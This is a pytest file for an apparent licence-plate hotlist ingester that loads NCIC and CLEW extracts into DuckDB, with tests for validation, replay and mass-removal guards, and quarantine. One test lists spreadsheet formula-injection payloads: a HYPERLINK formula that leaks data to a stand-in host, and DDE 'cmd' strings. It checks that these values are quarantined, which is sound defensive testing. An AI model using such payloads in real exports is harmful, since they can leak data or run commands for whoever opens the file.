"""Ingest: every rule of docs/formats.md section 4, on real files and a real DuckDB store."""

from __future__ import annotations

import threading
import time
from collections.abc import Callable
from pathlib import Path

import duckdb
import pytest

from hotlist.config import Settings
from hotlist.ingest import IngestFailed, Rejection, ingest_source
from hotlist.lookup import find_hits
from hotlist.sources import FetchError, FetchFailure
from hotlist.store import control_path
from hotlist.store.apply import ApplyResult
from hotlist.store.state import read_state
from tests.builders import Drop, clew_file, clew_line, ncic_file, ncic_line

NCIC_DAY1 = [
    ncic_line("V000000001", "7ABC123"),
    ncic_line("V000000002", "8XYZ999", "NV"),
    ncic_line("P000000003", "4PLT444"),
    ncic_line("F000000004", "5FEL555"),
    ncic_line("F000000004", "5FEL556"),  # a supplemental plate of the same record
    ncic_line("N000000005", "6IMM666"),  # immigration violator: never loaded
    ncic_line("W000000006", "3WNT333"),  # wanted person: not a configured hit type
    ncic_line("A000000007", "2AMB222"),
    ncic_line("M000000008", "1MIS111"),
    ncic_line("R000000009", "ABCD123", "ON"),
    ncic_line("V000000010", "9VEH010"),
]


@pytest.fixture
def relaxed(make_settings: Callable[..., Settings]) -> Settings:
    """Guards loose enough for hand-written files of a dozen lines."""
    return make_settings("guards = {max_removal_share = 0.5, max_row_error_share = 0.2}")


def _ncic(settings: Settings) -> list[ApplyResult]:
    outcomes = ingest_source(settings, "ncic")
    assert all(isinstance(o, ApplyResult) for o in outcomes)
    return [o for o in outcomes if isinstance(o, ApplyResult)]


def _rejection(settings: Settings, source: str) -> Rejection:
    with pytest.raises(IngestFailed) as failed:
        ingest_source(settings, source)
    [rejection] = failed.value.rejections
    return rejection


def _plates(settings: Settings) -> set[str]:
    path = settings.data_dir / read_state(settings.data_dir)["feeds"]["ncic"]["content_file"]
    con = duckdb.connect(str(path), read_only=True)
    try:
        return {row[0] for row in con.execute("SELECT plate FROM entries").fetchall()}
    finally:
        con.close()


def test_it_loads_the_configured_hit_types_and_never_immigration_records(
    settings: Settings, drop: Drop
) -> None:
    drop.put("VEHEXTRT.txt", ncic_file(NCIC_DAY1))
    [result] = _ncic(settings)
    assert result.verdict == "applied"
    assert result.entries == 9
    plates = _plates(settings)
    assert "6IMM666" not in plates
    assert "3WNT333" not in plates
    assert {"5FEL555", "5FEL556"} <= plates


def test_hit_types_cannot_be_configured_to_include_immigration_violators(
    make_settings: Callable[..., Settings], drop: Drop
) -> None:
    settings = make_settings('hit_types = ["V", "N", "W"]')
    assert settings.source("ncic").hit_types == ("V", "W")
    drop.put("VEHEXTRT.txt", ncic_file(NCIC_DAY1))
    _ncic(settings)
    plates = _plates(settings)
    assert "6IMM666" not in plates
    assert "3WNT333" in plates


def test_a_file_of_the_same_size_and_mtime_is_not_even_downloaded(
    settings: Settings, drop: Drop
) -> None:
    drop.put("VEHEXTRT.txt", ncic_file(NCIC_DAY1))
    [first] = _ncic(settings)
    assert _ncic(settings) == []
    assert read_state(settings.data_dir)["hotlist_version"] == first.version


def test_the_same_bytes_with_a_new_mtime_are_unchanged_and_change_nothing(
    settings: Settings, drop: Drop
) -> None:
    path = drop.put("VEHEXTRT.txt", ncic_file(NCIC_DAY1))
    [first] = _ncic(settings)
    drop.put("VEHEXTRT.txt", path.read_bytes())  # same bytes, new mtime: hashed, then skipped
    assert ingest_source(settings, "ncic") == []  # known by its content, not size and mtime
    assert read_state(settings.data_dir)["hotlist_version"] == first.version


def test_day_two_adds_changes_and_removes_with_tombstones_of_ids_only(
    relaxed: Settings, drop: Drop
) -> None:
    settings = relaxed
    drop.put("VEHEXTRT.txt", ncic_file(NCIC_DAY1))
    _ncic(settings)
    day2 = [ln for ln in NCIC_DAY1 if "7ABC123" not in ln and "5FEL556" not in ln]
    day2 = [ln.replace("BLK", "WHI") if "8XYZ999" in ln else ln for ln in day2]
    day2.append(ncic_line("V000000011", "7NEW777"))
    drop.put("VEHEXTRT.txt", ncic_file(day2, stamp="202611221800"))
    [result] = _ncic(settings)
    assert (result.added, result.changed, result.removed) == (1, 1, 2)
    con = duckdb.connect(str(control_path(settings.data_dir)), read_only=True)
    try:
        tombstones = con.execute(
            "SELECT record_id, keyed_hash, reason FROM tombstones ORDER BY 1"
        ).fetchall()
        columns = {d[0] for d in con.execute("SELECT * FROM tombstones").description or []}
        ops = dict(
            con.execute(
                "SELECT op, count(*) FROM changes WHERE version = ? GROUP BY op", [result.version]
            ).fetchall()
        )
    finally:
        con.close()
    assert [t[0] for t in tombstones] == ["F000000004", "V000000001"]
    assert all(len(t[1]) == 64 for t in tombstones)
    assert "plate" not in columns
    assert ops == {"add": 1, "change": 1, "remove": 2}
    assert find_hits(settings.data_dir, "7ABC123") == []
    assert [h.record_id for h in find_hits(settings.data_dir, "5fel-555")] == ["F000000004"]


def _clew_tables(drop: Drop, svs_count: int) -> None:
    drop.put("svs.tbl", clew_file([clew_line("7ABC123")], count=svs_count))
    drop.put("sfr.tbl", clew_file([clew_line("5FEL555")]))
    drop.put("slr.tbl", clew_file([clew_line("4PLT444")]))


def test_it_rejects_a_clew_file_whose_trailer_count_disagrees(
    settings: Settings, drop: Drop
) -> None:
    _clew_tables(drop, svs_count=2)
    rejection = _rejection(settings, "svs")
    assert (rejection.feed, rejection.rule) == ("svs", "trailer-count")
    assert "trailer declares 2 records, the file holds 1" in rejection.message
    assert read_state(settings.data_dir)["feeds"]["svs"]["version"] is None


def test_a_rejected_clew_table_leaves_the_other_tables_of_its_source_applied(
    settings: Settings, drop: Drop
) -> None:
    _clew_tables(drop, svs_count=2)
    _rejection(settings, "svs")
    feeds = read_state(settings.data_dir)["feeds"]
    assert feeds["sfr"]["entries"] == 1 and feeds["slr"]["entries"] == 1


@pytest.mark.parametrize(
    ("text", "rule"),
    [
        ("DATE11/22/2026 08:00\n" + clew_line("7ABC123") + "\n", "trailer-missing"),
        (clew_file([clew_line("7ABC123")]).rstrip("\n"), "incomplete-last-line"),
        (clew_file([clew_line("7ABC123")], header="7ABC123 CA1920240105"), "header-missing"),
    ],
)
def test_it_rejects_an_incomplete_clew_file(
    make_settings: Callable[..., Settings], drop: Drop, text: str, rule: str
) -> None:
    settings = make_settings(svs='files = {svs = "svs.tbl"}')
    drop.put("svs.tbl", text)
    assert _rejection(settings, "svs").rule == rule


def test_a_rejected_file_keeps_the_previous_snapshot(settings: Settings, drop: Drop) -> None:
    drop.put("VEHEXTRT.txt", ncic_file(NCIC_DAY1))
    [first] = _ncic(settings)
    drop.put("VEHEXTRT.txt", ncic_file(NCIC_DAY1[:3], stamp="202611221800").rstrip("\n"))
    assert _rejection(settings, "ncic").rule == "incomplete-last-line"
    state = read_state(settings.data_dir)["feeds"]["ncic"]
    assert state["version"] == first.version and state["entries"] == first.entries
    assert state["last_event"]["verdict"] == "rejected"


def test_it_rejects_a_replayed_or_older_file(settings: Settings, drop: Drop) -> None:
    drop.put("VEHEXTRT.txt", ncic_file(NCIC_DAY1, stamp="202611221800"))
    _ncic(settings)
    drop.put("VEHEXTRT.txt", ncic_file(NCIC_DAY1[:-1], stamp="202611220600"))
    rejection = _rejection(settings, "ncic")
    assert rejection.rule == "replay"
    assert len(_plates(settings)) == 9


def test_it_rejects_a_file_with_too_many_row_errors(settings: Settings, drop: Drop) -> None:
    bad = [ncic_line("V00000000X", f"BAD{i}") for i in range(3)]
    drop.put("VEHEXTRT.txt", ncic_file(NCIC_DAY1 + bad))
    rejection = _rejection(settings, "ncic")
    assert rejection.rule == "row-error-share"
    assert "3 of 12 rows have errors" in rejection.message


def _mass_removal(settings: Settings, drop: Drop) -> Rejection:
    drop.put("VEHEXTRT.txt", ncic_file(NCIC_DAY1))
    _ncic(settings)
    drop.put("VEHEXTRT.txt", ncic_file(NCIC_DAY1[:2], stamp="202611221800"))
    return _rejection(settings, "ncic")


def test_mass_removal_is_refused_and_names_the_approval_of_that_exact_file(
    settings: Settings, drop: Drop
) -> None:
    rejection = _mass_removal(settings, drop)
    assert rejection.rule == "mass-removal"
    assert f"--approve-mass-removal {rejection.sha256}" in rejection.message
    assert len(_plates(settings)) == 9


def test_the_approval_of_another_file_does_not_apply_a_mass_removal(
    settings: Settings, drop: Drop
) -> None:
    _mass_removal(settings, drop)
    with pytest.raises(IngestFailed):
        ingest_source(settings, "ncic", approved_sha256="0" * 64)
    assert len(_plates(settings)) == 9


def test_the_approval_of_that_exact_file_applies_the_mass_removal(
    settings: Settings, drop: Drop
) -> None:
    rejection = _mass_removal(settings, drop)
    [applied] = ingest_source(settings, "ncic", approved_sha256=rejection.sha256)
    assert isinstance(applied, ApplyResult) and applied.removed == 7
    assert _plates(settings) == {"7ABC123", "8XYZ999"}


def test_a_quarantined_row_keeps_the_previous_version_of_its_entry(
    relaxed: Settings, drop: Drop
) -> None:
    settings = relaxed
    drop.put("VEHEXTRT.txt", ncic_file(NCIC_DAY1))
    _ncic(settings)
    day2 = [
        ncic_line("V000000001", "7ABC123", date="20241340") if "7ABC123" in ln else ln
        for ln in NCIC_DAY1
    ]
    drop.put("VEHEXTRT.txt", ncic_file(day2, stamp="202611221800"))
    [result] = _ncic(settings)
    assert (result.quarantined, result.carried, result.removed) == (1, 1, 0)
    assert [h.record_id for h in find_hits(settings.data_dir, "7ABC123")] == ["V000000001"]


def test_row_issues_name_line_field_and_rule_but_no_value(settings: Settings, drop: Drop) -> None:
    lines = [
        *NCIC_DAY1,
        ncic_line("V000000012", "7QQQ777", "ZZ"),
        ncic_line("V000000013", "7MAK777", make="QQQQ"),
    ]
    drop.put("VEHEXTRT.txt", ncic_file(lines))
    with pytest.raises(IngestFailed):  # 1 error in 12 candidate rows exceeds the default 1%
        _ncic(settings)
    con = duckdb.connect(str(control_path(settings.data_dir)), read_only=True)
    try:
        issues = con.execute(
            "SELECT line_no, field, rule, severity FROM file_issues ORDER BY 1"
        ).fetchall()
    finally:
        con.close()
    assert (13, "state", "state.unknown_code", "error") in issues
    assert (14, "make", "make.unknown_code", "warning") in issues


def test_an_unknown_make_is_a_warning_and_the_row_loads(settings: Settings, drop: Drop) -> None:
    drop.put(
        "VEHEXTRT.txt", ncic_file([*NCIC_DAY1, ncic_line("V000000013", "7MAK777", make="QQQQ")])
    )
    [result] = _ncic(settings)
    assert result.warnings == 1 and result.quarantined == 0
    assert len(find_hits(settings.data_dir, "7MAK777")) == 1


def test_the_csv_variant_loads_by_configuration_alone(
    make_settings: Callable[..., Settings], drop: Drop
) -> None:
    settings = make_settings(layout="ncic-csv")
    drop.put(
        "VEHEXTRT.txt",
        "NCIC LPR EXTRACT 202611220800\n"
        "C845996328,0H0671200,20211122,JFJ4764,0H,2022,TK,2013,CHEV,AVA,PK,CRM\n"
        "V845996329,CA0190000,20211122,7ABC123,CA,2022,C0,2013,D0DG,CHA,4D,BLK/WHI\n",
    )
    settings = settings.model_copy(
        update={
            "sources": {
                **settings.sources,
                "ncic": settings.source("ncic").model_copy(update={"hit_types": ("V", "C")}),
            }
        }
    )
    [result] = _ncic(settings)
    assert result.entries == 2 and result.warnings == 0
    [hit] = find_hits(settings.data_dir, "JFJ4764", "OH")
    assert (hit.record_id, hit.state, hit.ori) == ("C845996328", "OH", "OH0671200")


def test_a_filesystem_that_stops_an_in_kernel_copy_still_lands_the_exact_file(
    settings: Settings, drop: Drop, monkeypatch: pytest.MonkeyPatch
) -> None:
    """file:// sources copy inside the kernel; where it fails part way (EXDEV on some
    mounts), the copy starts over through buffers and lands every byte once."""
    import errno
    import hashlib
    import os

    real = os.copy_file_range
    calls = []

    def fails_after_a_part(src: int, dst: int, count: int, *args: object) -> int:
        calls.append(count)
        if len(calls) > 1:
            raise OSError(errno.EXDEV, "cross-device copy refused")
        return real(src, dst, 100)  # a part of the file

    monkeypatch.setattr(os, "copy_file_range", fails_after_a_part)
    content = ncic_file(NCIC_DAY1)
    drop.put("VEHEXTRT.txt", content)
    [result] = _ncic(settings)
    assert len(calls) == 2
    assert result.sha256 == hashlib.sha256(content.encode()).hexdigest()
    assert result.entries == 9  # every loadable line: all but the N and W records


def test_a_file_that_changes_while_it_is_read_is_refused(settings: Settings, drop: Drop) -> None:
    path = drop.put("VEHEXTRT.txt", ncic_file(NCIC_DAY1) * 1 + ("X" * 99 + "\n") * 400_000)
    stop = threading.Event()

    def touch() -> None:
        tick = 1_800_000_000
        while not stop.is_set():
            tick += 1
            path.touch()
            import os

            os.utime(path, (tick, tick))
            time.sleep(0.0005)

    toucher = threading.Thread(target=touch)
    toucher.start()
    try:
        with pytest.raises(FetchError) as failure:
            ingest_source(settings, "ncic")
    finally:
        stop.set()
        toucher.join()
    assert failure.value.kind is FetchFailure.CHANGED_WHILE_READ
    assert failure.value.transient
    assert read_state(settings.data_dir)["feeds"]["ncic"]["last_event"]["verdict"] == "fetch-failed"
    assert not any(Path(settings.data_dir, "landing", "ncic").iterdir())


def test_a_broken_entry_contract_names_columns_and_checks_never_values(tmp_path: Path) -> None:
    """The last gate before the store: its error must not carry the plate it refused."""
    import datetime as dt
    from typing import Any, cast

    import polars as pl

    from hotlist.keyed import LineKeyer
    from hotlist.parse import ENTRY_COLUMNS, ParsedFile
    from hotlist.store.chunks import EntryContractBroken, EntryKeys, validated_chunk

    row: dict[str, Any] = dict.fromkeys(ENTRY_COLUMNS)
    row |= {"feed": "ncic", "list": "immigration_violator", "record_id": "N123456789",
            "plate": "ZQXSECRET", "plate_raw": "ZQXSECRET", "state": "CA",
            "record_date": dt.date(2024, 1, 5), "line_no": 2}  # fmt: skip
    entries = pl.DataFrame(
        [row], schema_overrides={"plate_year": pl.Int16, "vehicle_year": pl.Int16}
    )
    chunk = ParsedFile("x", dt.datetime.now(dt.UTC), 1, entries, pl.DataFrame(), pl.DataFrame())

    class OneChunk:
        name = "VEHEXTRT.txt"

        def chunk(self, index: int) -> ParsedFile:
            return chunk

    keys = EntryKeys(pl.lit(1, pl.Int64).alias("entry_id"), LineKeyer(tmp_path))
    with pytest.raises(EntryContractBroken) as broken:
        validated_chunk(cast(Any, OneChunk()), 0, keys)
    message = str(broken.value)
    assert "ZQXSECRET" not in message
    assert "never_immigration" in message  # the SB 54 check, by its name
    assert "list: isin" in message  # and the list, which is no loadable list


def test_entry_ids_are_63_bits_of_hmac_sha256_of_feed_and_identity(tmp_path: Path) -> None:
    """Entry ids must stay the same across library upgrades: they are a specified keyed
    hash (checked here against Python's hmac), not a library's internal hash."""
    import hashlib
    import hmac

    import polars as pl

    from hotlist.keyed import entry_id

    rows = pl.DataFrame(
        {"record_id": ["V123456789", None], "plate": ["ABC123", "7XYZ99"], "state": ["CA", "NV"]}
    )
    ids = rows.select(entry_id(tmp_path, "ncic", ["record_id", "plate", "state"]))["entry_id"]
    key = (tmp_path / "secrets" / "keyed-hash.key").read_bytes().hex().encode()
    expected = [
        int(hmac.new(key, message, hashlib.sha256).hexdigest()[:16], 16) & (2**63 - 1)
        for message in (b"ncic|V123456789|ABC123|CA", b"ncic|7XYZ99|NV")  # nulls left out
    ]
    assert ids.to_list() == expected
    assert ids.dtype == pl.Int64


def test_a_failure_while_streaming_into_duckdb_surfaces_as_itself(tmp_path: Path) -> None:
    """The writer reads chunks as an Arrow stream; a chunk that breaks the entry contract
    after DuckDB has started writing must raise that error, not a DuckDB stream error."""
    import datetime as dt
    from typing import Any, cast

    import duckdb
    import polars as pl

    from hotlist.keyed import LineKeyer
    from hotlist.parse import ENTRY_COLUMNS, ParsedFile
    from hotlist.store.chunks import EntryContractBroken, EntryKeys
    from hotlist.store.stream import write_entries

    def chunk(record_id: str, entry_list: str) -> ParsedFile:
        row: dict[str, Any] = dict.fromkeys(ENTRY_COLUMNS)
        row |= {"feed": "ncic", "list": entry_list, "record_id": record_id, "plate": "ZQX123",
                "plate_raw": "ZQX123", "state": "CA", "record_date": dt.date(2024, 1, 5),
                "line_no": 2}  # fmt: skip
        entries = pl.DataFrame(
            [row], schema_overrides={"plate_year": pl.Int16, "vehicle_year": pl.Int16}
        )
        quarantine = pl.DataFrame({"line_no": [], "raw_line": [], "rules": []})
        issues = pl.DataFrame({"line_no": [], "severity": []})
        return ParsedFile("x", dt.datetime.now(dt.UTC), 1, entries, quarantine, issues)

    class TwoChunks:
        name = "VEHEXTRT.txt"
        chunk_count = 2

        def chunk(self, index: int) -> ParsedFile:
            return chunk(("V123456789", "N123456789")[index], "stolen_vehicle")

        def chunk_lines(self, index: int) -> pl.DataFrame:
            return pl.DataFrame({"line_no": [2], "text": ["a line"]})

    con = duckdb.connect(str(tmp_path / "entries.duckdb"))
    keys = EntryKeys(pl.lit(1, pl.Int64).alias("entry_id"), LineKeyer(tmp_path))
    with pytest.raises(EntryContractBroken) as broken:
        write_entries(con, cast(Any, TwoChunks()), keys, [])
    assert "ZQX123" not in str(broken.value)
    assert "never_immigration" in str(broken.value)
    assert con.sql(
        "SELECT count(*) FROM duckdb_tables() WHERE table_name = 'entries'"
    ).fetchall() == [(0,)]


def test_status_shows_a_failed_fetch_and_the_age_of_the_last_good_file(
    settings: Settings, drop: Drop
) -> None:
    from hotlist.status import feed_statuses

    path = drop.put("VEHEXTRT.txt", ncic_file(NCIC_DAY1))
    _ncic(settings)
    path.unlink()
    with pytest.raises(FetchError):
        ingest_source(settings, "ncic")
    [ncic] = [s for s in feed_statuses(settings) if s.feed == "ncic"]
    assert ncic.last_event == "fetch-failed [not-found]"
    assert ncic.last_error is not None
    assert "does not exist" in ncic.last_error
    assert ncic.last_file == "VEHEXTRT.txt"
    assert ncic.age_hours is not None
    # The extract is dated days back: stale by its own clock, however recent the apply.
    assert ncic.stale
    assert any(why.startswith("extract ") for why in ncic.stale_because)


def test_a_colour_is_known_when_each_of_its_tones_is_a_colour_code() -> None:
    """Unknown colours are warnings, never row errors; two-tone colours are judged by tone."""
    import polars as pl

    from contracts.models import CodeAdvisories
    from hotlist.parse import contract_failures

    colours = ["BLK", "BLK/WHI", "BLK/ZZZ", "QQQ", None, "BLK"]
    advisory_fields = ["county", "ori", "plate_year_raw", "vehicle_year_raw", "plate_type",
                       "make", "model", "style"]  # fmt: skip
    rows = pl.DataFrame(
        {"line_no": range(1, 7), "colour": colours}
        | {name: [None] * 6 for name in advisory_fields},
        schema_overrides=dict.fromkeys(advisory_fields, pl.String),
    )
    warnings = contract_failures(CodeAdvisories, rows, "warning")
    assert warnings.select("line_no", "field", "severity").rows() == [
        (3, "colour", "warning"),
        (4, "colour", "warning"),
    ]


def test_chunks_parsed_in_parallel_give_the_same_store_as_one_chunk(
    relaxed: Settings, drop: Drop, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Chunks are parsed two at a time and streamed into DuckDB: the store must not depend
    on where the chunk boundaries fall (duplicates, quarantined rows, excluded records)."""
    from hotlist import parse
    from hotlist.config import load_settings

    records = [
        *NCIC_DAY1,
        ncic_line("V000000011", "7BAD777", date="2024XX05"),  # a row error, in a late chunk
        ncic_line("V000000001", "7ABC123"),  # a duplicate identity, chunks after the first
        ncic_line("V000000012", "7NEW012"),
    ]
    drop.put("VEHEXTRT.txt", ncic_file(records))
    other = tmp_path / "one-chunk"
    other.mkdir()
    (other / "hotlist.toml").write_text(
        f'data_dir = "data"\n[sources.svs]\nurl = "file://{drop.root}"\n'
        f'[sources.ncic]\nurl = "file://{drop.root}"\n'
        "guards = {max_removal_share = 0.5, max_row_error_share = 0.2}\n"
    )
    [whole] = _ncic(load_settings(other / "hotlist.toml", environ={}))
    monkeypatch.setattr(parse, "CHUNK_LINES", 3)
    [chunked] = _ncic(relaxed)

    def content(data_dir: Path) -> tuple[list[tuple[object, ...]], list[tuple[object, ...]]]:
        path = data_dir / read_state(data_dir)["feeds"]["ncic"]["content_file"]
        con = duckdb.connect(str(path), read_only=True)
        try:
            entries = con.sql(
                "SELECT * EXCLUDE (entry_id, line_key_hi, line_key_lo) FROM entries"
                " ORDER BY line_no"
            )
            quarantine = con.sql("SELECT line_no, rules FROM quarantine ORDER BY line_no")
            return entries.fetchall(), quarantine.fetchall()
        finally:
            con.close()

    assert content(relaxed.data_dir) == content(other / "data")
    assert (chunked.entries, chunked.quarantined, chunked.warnings) == (
        whole.entries, whole.quarantined, whole.warnings,
    )  # fmt: skip
    assert chunked.quarantined == 1 and chunked.warnings == 1  # the duplicate is reported


def test_high_entropy_identifiers_are_stored_uncompressed(settings: Settings, drop: Drop) -> None:
    """record_id and plate gain little from compression and cost the most to compress."""
    drop.put("VEHEXTRT.txt", ncic_file(NCIC_DAY1))
    _ncic(settings)
    path = settings.data_dir / read_state(settings.data_dir)["feeds"]["ncic"]["content_file"]
    con = duckdb.connect(str(path), read_only=True)
    try:
        kinds = con.sql(
            "SELECT DISTINCT column_name, compression FROM pragma_storage_info('entries')"
            " WHERE column_name IN ('record_id', 'plate') AND segment_type = 'VARCHAR'"
        ).fetchall()
    finally:
        con.close()
    assert sorted(kinds) == [("plate", "Uncompressed"), ("record_id", "Uncompressed")]


HOSTILE_CODES = {
    "colour": '=HYPERLINK("http://x.example/?leak")',
    "model": "@SUM(1+1)*cmd|x",
    "ori": "=cmd|' /C calc'!A0",
}


@pytest.mark.parametrize(("field", "value"), sorted(HOSTILE_CODES.items()))
def test_a_code_field_that_is_no_code_is_a_row_error_and_never_published(
    make_settings: Callable[..., Settings], drop: Drop, field: str, value: str
) -> None:
    """Code fields are codes, not free text: a formula in a colour, model or ORI is a row
    error (the line is quarantined) and reaches neither the store's entries nor the
    published hotlist.csv."""
    from hotlist.purge import purge

    settings = make_settings(
        "guards = {max_row_error_share = 0.5}\nhit_types = ['V']", layout="ncic-csv"
    )
    fields = {"ori": "CA0190000", "model": "CAM", "colour": "BLK"} | {field: value}
    drop.put(
        "VEHEXTRT.txt",
        "NCIC LPR EXTRACT 202611220800\n"
        "V000000001,CA0190000,20240105,7ABC123,CA,2025,PC,2019,TOYT,CAM,4D,BLK\n"
        f"V000000002,{fields['ori']},20240105,7HOS222,CA,2025,PC,2019,TOYT,"
        f"{fields['model']},4D,{fields['colour']}\n",
    )
    [result] = _ncic(settings)
    assert (result.entries, result.quarantined) == (1, 1)
    purge(settings, None)
    [csv_file] = (settings.data_dir / "published").glob("v*/hotlist.csv")
    published = csv_file.read_text()
    assert "7ABC123" in published
    assert "7HOS222" not in published and value not in published
    con = duckdb.connect(str(control_path(settings.data_dir)), read_only=True)
    try:
        rules = con.execute("SELECT rule, severity FROM file_issues WHERE line_no = 3").fetchall()
    finally:
        con.close()
    assert rules == [(f"{field}.format", "error")]


@pytest.mark.parametrize(
    ("field", "value"),
    [("make", "RIVN"), ("model", "R1T"), ("style", "CU"), ("colour", "AQU/BLK")],
)
def test_an_unknown_code_of_code_shape_is_a_warning_and_the_row_loads(
    settings: Settings, drop: Drop, field: str, value: str
) -> None:
    """NCIC adds codes every quarter: a well-shaped code the tables do not know yet loads."""
    line = ncic_line("V000000013", "7NEW777", **{field: value})
    drop.put("VEHEXTRT.txt", ncic_file([*NCIC_DAY1, line]))
    [result] = _ncic(settings)
    assert (result.warnings, result.quarantined) == (1, 0)
    assert len(find_hits(settings.data_dir, "7NEW777")) == 1
